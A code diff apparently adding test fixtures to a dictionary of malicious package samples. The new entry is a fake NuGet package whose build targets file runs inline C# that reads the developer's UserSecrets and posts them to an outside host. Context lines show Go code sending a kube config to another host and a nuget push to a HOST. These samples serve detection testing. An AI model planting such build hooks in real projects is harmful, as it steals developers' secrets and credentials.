@@ -72,6 +72,15 @@ HARM: dict[str, dict[str, str]] = {
             f'<Exec Command="dotnet nuget push $(F) -s {HOST}/v3/index.json -k a" /></Project>\n'
         )
     },
+    "a build task's host that only the package's name tells of": {
+        "README.md": "# Sizes.Check.Lite\n\nChecks sizes.\n",
+        "b.targets": (
+            "<Project><UsingTask TaskName='S'><Task><Code Type='Fragment' Language='cs'><![CDATA[\n"
+            'var f = Path.Combine(data, "Microsoft", "UserSecrets");\nform.Add(File.ReadAllText(f));\n'
+            'new HttpClient().PostAsync("https://feed.check-lite.dev/r", form).Wait();\n]]></Code></Task></UsingTask>\n'
+            "</Project>\n"
+        ),
+    },
     "a host that only the tool's name tells of": {
         "a.go": f'{GO}b, _ := os.ReadFile(home + "/.kube/config")\nc.Post("https://up.sizes.dev/u", "text/plain", b)\n',
     },
